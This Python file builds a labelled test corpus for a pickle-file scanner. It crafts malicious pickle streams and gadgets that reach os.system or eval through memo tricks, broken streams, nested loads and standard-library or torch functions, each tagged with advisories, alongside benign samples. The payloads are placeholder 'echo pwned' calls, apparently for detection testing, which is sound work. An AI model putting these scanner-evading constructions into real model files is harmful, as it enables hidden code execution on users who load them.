"""Pickle streams and gadgets, assembled opcode by opcode (standard library only).

Every malicious stream calls `os.system('echo pwned')` or the gadget's own equivalent;
none of them is ever unpickled here.
"""

from __future__ import annotations
import __future__

import collections
import collections.abc
import marshal
import pickle
from typing import TYPE_CHECKING

from craft import (
    BUILD,
    CMD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NEWTRUE,
    NONE,
    POP,
    PROTO0_OS_SYSTEM,
    PROTO2,
    PY_CMD,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    binbytes,
    binint,
    call,
    dct,
    glob,
    lst,
    os_system,
    p2,
    p4,
    short_ustr,
    stack_glob,
    tup,
    ustr,
)

if TYPE_CHECKING:
    from build import Corpus

PS_ADV = "https://github.com/mmaitre314/picklescan/security/advisories/"
NULLIFAI = (
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)
PICKLE_DOC = "https://docs.python.org/3/library/pickle.html"
PY_SRC = "import os; os.system('echo pwned')"


def _binput(index: int) -> bytes:
    return b"q" + bytes([index])


def _binget(index: int) -> bytes:
    return b"h" + bytes([index])


def streams(c: Corpus) -> None:
    cls = "pickle-stream"
    benign_dict = p2(dct([(ustr("lr"), binint(3)), (ustr("name"), ustr("tiny"))]))
    c.add(
        cls,
        "multi_pickle_second",
        "model.pkl",
        benign_dict + p2(os_system()),
        expect="malicious",
        source=PICKLE_DOC + "#pickle.Unpickler.load",
        what="two pickles back to back: a harmless dict, then os.system; a second "
        "pickle.load() on the same file runs it",
    )
    c.add(
        cls,
        "multi_pickle_third_bin",
        "weights.bin",
        benign_dict + benign_dict + p2(os_system()),
        expect="malicious",
        source=PICKLE_DOC + "#pickle.Unpickler.load",
        what="three pickles back to back, the third calls os.system; .bin name",
    )
    c.add(
        cls,
        "multi_pickle_benign",
        "model.pkl",
        benign_dict + benign_dict,
        expect="benign",
        source=PICKLE_DOC,
        what="two harmless pickles back to back",
    )

    broken = PROTO2 + os_system() + b"\x00\xff\xfe garbage after the payload"
    c.add(
        cls,
        "nullifai_broken_pkl",
        "model.pkl",
        broken,
        expect="malicious",
        source=NULLIFAI,
        what="nullifAI: os.system REDUCE, then bytes that are no opcode (no STOP); "
        "pickle.load runs the payload before it fails",
    )
    c.add(
        cls,
        "nullifai_broken_bin",
        "pytorch_model.bin",
        broken,
        expect="malicious",
        source=NULLIFAI,
        what="nullifAI-style broken raw pickle under a torch file name "
        "(torch.load's legacy reader unpickles it)",
    )

    c.add(
        cls,
        "int_base_prefix_hex",
        "model.pkl",
        b"I0x1f\n" + POP + PROTO0_OS_SYSTEM,
        expect="malicious",
        source="https://github.com/python/cpython/blob/3.11/Modules/_pickle.c"
        " (load_int: strtol base 0)",
        what="protocol 0: INT `0x1f` (CPython reads base prefixes, pickletools raises) "
        "before the os.system call",
    )
    c.add(
        cls,
        "int_base_prefix_bin",
        "model.bin",
        PROTO2 + b"I0b1\n" + POP + os_system() + STOP,
        expect="malicious",
        source="https://github.com/python/cpython/blob/3.11/Modules/_pickle.c (load_int)",
        what="protocol 2: INT `0b1` before the os.system call; .bin name",
    )
    c.add(
        cls,
        "int_base_prefix_after_global",
        "model.pkl",
        PROTO2 + glob("os", "system") + b"I0o17\n" + POP + tup(ustr(CMD)) + REDUCE + STOP,
        expect="malicious",
        source="https://github.com/python/cpython/blob/3.11/Modules/_pickle.c",
        what="os.system imported before an INT `0o17` that pickletools rejects",
    )

    for op, code, width in ((b"\x82", 0x42, 1), (b"\x83", 0x1234, 2), (b"\x84", 0x123456, 4)):
        reg = call(glob("copyreg", "add_extension"), ustr("os"), ustr("system"), binint(code))
        body = reg + POP + op + code.to_bytes(width, "little") + tup(ustr(CMD)) + REDUCE
        c.add(
            cls,
            f"ext{width}_after_add_extension",
            "model.pkl",
            p2(body),
            expect="malicious",
            source=PICKLE_DOC + "#pickle-protocols; https://docs.python.org/3/library/copyreg.html",
            what=f"copyreg.add_extension('os','system',{code:#x}) then EXT{width}: "
            "the extension registry resolves to os.system",
        )

    # Memo confusion: names come from memo slots that were overwritten with PUT.
    memo = (
        short_ustr("builtins")
        + MEMOIZE
        + short_ustr("len")
        + MEMOIZE
        + POP
        + POP
        + short_ustr("os")
        + _binput(0)
        + POP
        + short_ustr("system")
        + _binput(1)
        + POP
        + _binget(0)
        + _binget(1)
        + STACK_GLOBAL
        + tup(ustr(CMD))
        + REDUCE
    )
    c.add(
        cls,
        "memo_overwrite",
        "model.pkl",
        p4(memo),
        expect="malicious",
        source="https://github.com/mmaitre314/picklescan/issues/22",
        what="STACK_GLOBAL on memo slots first filled with builtins/len by MEMOIZE, then "
        "overwritten with os/system by BINPUT",
    )
    scattered = (
        short_ustr("system")
        + _binput(7)
        + POP
        + short_ustr("os")
        + _binput(3)
        + POP
        + _binget(3)
        + _binget(7)
        + STACK_GLOBAL
        + tup(ustr(CMD))
        + REDUCE
    )
    c.add(
        cls,
        "memo_scattered_indices",
        "model.pkl",
        p4(scattered),
        expect="malicious",
        source="https://github.com/mmaitre314/picklescan/issues/22",
        what="STACK_GLOBAL on memo slots 3 and 7 written out of order",
    )

    c.add(
        cls,
        "inst_opcode",
        "model.pkl",
        b"(S'" + CMD.encode() + b"'\nios\nsystem\n.",
        expect="malicious",
        source=PICKLE_DOC,
        what="INST os system (protocol 0)",
    )
    c.add(
        cls,
        "obj_opcode",
        "model.pkl",
        p2(b"(" + glob("os", "system") + ustr(CMD) + b"o"),
        expect="malicious",
        source=PICKLE_DOC,
        what="OBJ with os.system as the 'class'",
    )
    setstate = tup(NONE, dct([(short_ustr("__setstate__"), stack_glob("os", "system"))]))
    newobj_ex = (
        stack_glob("argparse", "Namespace")
        + EMPTY_TUPLE
        + EMPTY_DICT
        + NEWOBJ_EX
        + setstate
        + BUILD
        + short_ustr(CMD)
        + BUILD
    )
    c.add(
        cls,
        "newobj_ex_build_setstate",
        "model.pkl",
        p4(newobj_ex),
        expect="malicious",
        source=PICKLE_DOC + "#object.__setstate__",
        what="NEWOBJ_EX argparse.Namespace, BUILD sets __setstate__=os.system as a slot "
        "attribute, a second BUILD calls it",
    )
    newobj = (
        glob("argparse", "Namespace")
        + EMPTY_TUPLE
        + NEWOBJ
        + tup(NONE, dct([(ustr("__setstate__"), glob("os", "system"))]))
        + BUILD
        + ustr(CMD)
        + BUILD
    )
    c.add(
        cls,
        "newobj_build_setstate",
        "model.pkl",
        p2(newobj),
        expect="malicious",
        source=PICKLE_DOC + "#object.__setstate__",
        what="protocol 2 NEWOBJ + BUILD __setstate__ trick",
    )

    inner = p2(os_system())
    c.add(
        cls,
        "nested_pickle_loads",
        "model.pkl",
        p2(call(glob("pickle", "loads"), binbytes(inner))),
        expect="malicious",
        source=PS_ADV + "GHSA-84r2-jw7c-4r5q",
        what="pickle.loads of embedded bytes that call os.system",
    )
    c.add(
        cls,
        "nested_torch_load_from_bytes",
        "model.pkl",
        p2(call(glob("torch.storage", "_load_from_bytes"), binbytes(inner))),
        expect="malicious",
        source="https://github.com/pytorch/pytorch/blob/main/torch/storage.py",
        what="torch.storage._load_from_bytes (torch.load on embedded bytes) of a payload",
    )
    c.add(
        cls,
        "nested_bytes_benign",
        "model.pkl",
        pickle.dumps({"note": "a pickle inside bytes", "blob": pickle.dumps([1, 2, 3])}, 4),
        expect="benign",
        source=PICKLE_DOC,
        what="harmless pickle holding bytes that happen to be a harmless pickle",
    )

    c.add(
        cls,
        "proto0_text",
        "model.pkl",
        PROTO0_OS_SYSTEM,
        expect="malicious",
        source=PICKLE_DOC + "#data-stream-format",
        what="protocol-0 (text) os.system pickle",
    )
    c.add(
        cls,
        "proto0_trailing_newline",
        "model.bin",
        PROTO0_OS_SYSTEM + b"\n",
        expect="malicious",
        source=PICKLE_DOC,
        what="protocol-0 pickle followed by a newline (load stops at STOP); .bin name",
    )
    c.add(
        cls,
        "proto0_no_extension",
        "checkpoint",
        PROTO0_OS_SYSTEM,
        expect="malicious",
        source=PICKLE_DOC,
        what="protocol-0 os.system pickle in a file without extension",
    )
    headerless = stack_glob("os", "system") + short_ustr(CMD) + b"\x85" + REDUCE + STOP
    c.add(
        cls,
        "headerless_proto4",
        "weights.bin",
        headerless,
        expect="malicious",
        source=PICKLE_DOC + " (opcodes are accepted whatever PROTO says)",
        what="protocol-4 opcodes without a PROTO header (starts with SHORT_BINUNICODE)",
    )
    c.add(
        cls,
        "proto0_benign_config",
        "config.pkl",
        pickle.dumps({"lr": 0.001, "layers": [64, 32], "name": "tiny"}, protocol=0),
        expect="benign",
        source=PICKLE_DOC,
        what="harmless protocol-0 pickle of a dict",
    )
    c.add(
        cls,
        "proto1_benign",
        "params.pkl",
        pickle.dumps([1.5, "x", (2, 3)], protocol=1),
        expect="benign",
        source=PICKLE_DOC,
        what="harmless protocol-1 pickle of a list",
    )

    c.add(
        cls,
        "truncated_no_stop",
        "model.pkl",
        pickle.dumps({"w": list(range(50))}, 4)[:-40],
        expect="fail-closed",
        source=PICKLE_DOC,
        what="a pickle cut short (no STOP): unreadable, must not pass silently",
    )
    c.add(
        cls,
        "not_an_opcode",
        "model.pkl",
        b"\x80\x04\xff\xfe\xfd" + b"\x00" * 32,
        expect="fail-closed",
        source=PICKLE_DOC,
        what="PROTO 4 then bytes that are no opcode, under a model name",
    )


def gadgets(c: Corpus) -> None:
    cls = "pickle-gadget"

    def add(case_id: str, data: bytes, what: str, source: str, name: str = "model.pkl") -> None:
        c.add(cls, case_id, name, data, expect="malicious", what=what, source=source)

    add(
        "pip_main",
        p2(
            call(
                glob("pip", "main"), lst(ustr("install"), ustr("--dry-run"), ustr("pwned-package"))
            )
        ),
        "pip.main(['install', ...])",
        "CVE-2025-1716",
    )
    add(
        "pkgutil_resolve_name",
        p2(call(call(glob("pkgutil", "resolve_name"), ustr("os:system")), ustr(CMD))),
        "pkgutil.resolve_name('os:system')('echo pwned')",
        PS_ADV + "GHSA-vvpj-8cmc-gx39",
    )
    add(
        "importlib_getattr",
        p2(
            call(
                call(
                    glob("builtins", "getattr"),
                    call(glob("importlib", "import_module"), ustr("os")),
                    ustr("system"),
                ),
                ustr(CMD),
            )
        ),
        "getattr(importlib.import_module('os'), 'system')(...)",
        PS_ADV + "GHSA-84r2-jw7c-4r5q",
    )
    add(
        "operator_attrgetter",
        p2(
            call(
                call(call(glob("operator", "attrgetter"), ustr("system")), glob("pathlib", "os")),
                ustr(CMD),
            )
        ),
        "operator.attrgetter('system')(pathlib.os)(...)",
        PS_ADV + "GHSA-46h3-79wf-xr6c",
    )
    add(
        "operator_methodcaller",
        p2(
            call(
                call(glob("_operator", "methodcaller"), ustr("system"), ustr(CMD)),
                glob("pathlib", "os"),
            )
        ),
        "_operator.methodcaller('system', ...)(pathlib.os)",
        PS_ADV + "GHSA-955r-x9j8-7rhh",
    )
    add(
        "pydoc_locate",
        p2(call(call(glob("pydoc", "locate"), ustr("os.system")), ustr(CMD))),
        "pydoc.locate('os.system')(...)",
        PS_ADV + "GHSA-84r2-jw7c-4r5q",
    )
    add(
        "ctypes_pythonapi",
        p4(call(stack_glob("ctypes", "pythonapi.PyRun_SimpleString"), binbytes(PY_SRC.encode()))),
        "ctypes.pythonapi.PyRun_SimpleString(b'...') via a dotted STACK_GLOBAL",
        PS_ADV + "GHSA-4675-36f9-wf6r",
    )
    add(
        "asyncio_subprocess_transport",
        p4(
            call(
                stack_glob("asyncio.unix_events", "_UnixSubprocessTransport._start"),
                NONE,
                ustr(CMD),
                NEWTRUE,
                NONE,
                NONE,
                NONE,
                binint(0),
            )
        ),
        "asyncio.unix_events._UnixSubprocessTransport._start(None, cmd, shell=True, ...)",
        "CVE-2025-10157",
        name="pytorch_model.bin",
    )
    add(
        "code_interpreter",
        p4(
            call(
                stack_glob("code", "InteractiveInterpreter.runsource"),
                call(stack_glob("code", "InteractiveInterpreter")),
                ustr(PY_SRC),
            )
        ),
        "code.InteractiveInterpreter().runsource(source)",
        PS_ADV + "GHSA-cj3c-v495-4xqh",
    )
    add(
        "profile_run",
        p2(call(glob("profile", "run"), ustr(PY_SRC))),
        "profile.run(source)",
        PS_ADV + "GHSA-7wx9-6375-f5wh",
    )
    add(
        "cprofile_run",
        p2(call(glob("cProfile", "run"), ustr(PY_SRC))),
        "cProfile.run(source)",
        PS_ADV + "GHSA-49gj-c84q-6qm9",
    )
    add(
        "pdb_run",
        p2(call(glob("pdb", "run"), ustr(PY_SRC))),
        "pdb.run(source)",
        "https://docs.python.org/3/library/pdb.html#pdb.run",
    )
    add(
        "timeit_timeit",
        p2(
            call(
                glob("timeit", "timeit"),
                ustr(PY_SRC),
                ustr("pass"),
                glob("time", "perf_counter"),
                binint(1),
            )
        ),
        "timeit.timeit(source, 'pass', time.perf_counter, 1)",
        "https://docs.python.org/3/library/timeit.html#timeit.timeit",
    )
    add(
        "idlelib_calltip",
        p2(call(glob("idlelib.calltip", "get_entity"), ustr(PY_CMD))),
        "idlelib.calltip.get_entity(expression) evaluates it",
        PS_ADV + "GHSA-9xph-j2h6-g47v",
    )
    add(
        "numpy_f2py_myeval",
        p2(call(glob("numpy.f2py.crackfortran", "myeval"), ustr(PY_CMD))),
        "numpy.f2py.crackfortran.myeval(expression) evaluates it",
        PS_ADV + "GHSA-r8g5-cgf2-4m4m",
    )
    add(
        "uuid_command",
        p2(call(glob("uuid", "_get_command_stdout"), ustr("sh"), ustr("-c"), ustr(CMD))),
        "uuid._get_command_stdout('sh', '-c', cmd)",
        PS_ADV + "GHSA-g38g-8gr9-h9xp",
    )
    add(
        "imaplib_stream",
        p2(call(glob("imaplib", "IMAP4_stream"), ustr(CMD))),
        "imaplib.IMAP4_stream(cmd) spawns the command",
        PS_ADV + "GHSA-g38g-8gr9-h9xp",
    )
    code = marshal.dumps(compile(PY_SRC, "<payload>", "exec"))
    add(
        "marshal_function_type",
        p2(
            call(
                call(
                    glob("types", "FunctionType"),
                    call(glob("marshal", "loads"), binbytes(code)),
                    EMPTY_DICT,
                )
            )
        ),
        "types.FunctionType(marshal.loads(bytecode), {})()",
        "https://github.com/mmaitre314/picklescan (types_CodeType sample)",
    )
    add(
        "torch_hub_load",
        p2(call(glob("torch.hub", "load"), ustr("attacker/repo"), ustr("model"))),
        "torch.hub.load('attacker/repo', 'model') runs the repo's hubconf.py",
        "https://pytorch.org/docs/stable/hub.html#torch.hub.load",
        name="model.pt",
    )
    add(
        "torch_cpp_extension",
        p2(
            call(
                glob("torch.utils.cpp_extension", "load_inline"),
                ustr("pwned"),
                ustr('int x = system("echo pwned");'),
            )
        ),
        "torch.utils.cpp_extension.load_inline compiles and loads C++",
        "https://pytorch.org/docs/stable/cpp_extension.html",
        name="model.pt",
    )
    add(
        "dotted_numpy_runstring",
        p4(call(stack_glob("numpy", "testing._private.utils.runstring"), ustr(PY_SRC), EMPTY_DICT)),
        "STACK_GLOBAL numpy + 'testing._private.utils.runstring' (dotted attribute path)",
        "https://github.com/trailofbits/fickling (numpy runstring bypass)",
    )
    add(
        "dotted_builtins_get",
        p4(call(call(stack_glob("collections", "__builtins__.get"), ustr("eval")), ustr(PY_CMD))),
        "STACK_GLOBAL collections + '__builtins__.get' -> eval",
        PICKLE_DOC,
    )
    add(
        "dotted_torch_os_system",
        p4(call(stack_glob("torch", "serialization.os.system"), ustr(CMD))),
        "STACK_GLOBAL torch + 'serialization.os.system' (os reached through a module)",
        PICKLE_DOC,
        name="model.pt",
    )
    add(
        "pandas_toplevel_hdfstore",
        p2(call(glob("pandas", "HDFStore"), ustr("/tmp/pwned.h5"), ustr("w"))),
        "pandas.HDFStore(path, 'w') creates a file: a top-level re-export of pandas.io",
        "invented for this corpus (cf. picklescan's logging.FileHandler / io.FileIO samples)",
    )


def stdlib_names(c: Corpus) -> None:
    """Harmless standard-library globals, pickled by the real pickle module."""
    cls = "stdlib-names"
    c.add(
        cls,
        "builtins_len",
        "model.pkl",
        pickle.dumps({"fn": len, "n": 3}, protocol=4),
        expect="benign",
        source=PICKLE_DOC,
        what="pickle of the builtin len (builtins.len)",
    )
    c.add(
        cls,
        "collections_abc",
        "model.pkl",
        pickle.dumps(
            [collections.abc.Mapping, collections.abc.Sequence, collections.abc.Iterable],
            protocol=4,
        ),
        expect="benign",
        source=PICKLE_DOC,
        what="collections.abc classes",
    )
    c.add(
        cls,
        "future_feature",
        "model.pkl",
        pickle.dumps({"annotations": __future__.annotations}, protocol=4),
        expect="benign",
        source=PICKLE_DOC,
        what="a __future__ feature object",
    )
    c.add(
        cls,
        "stdlib_containers",
        "model.pkl",
        pickle.dumps(
            {
                "od": collections.OrderedDict(a=1),
                "cnt": collections.Counter("ab"),
                "set": {1, 2},
                "fs": frozenset({3}),
                "c": complex(1, 2),
            },
            protocol=2,
        ),
        expect="benign",
        source=PICKLE_DOC,
        what="OrderedDict, Counter, set, complex",
    )
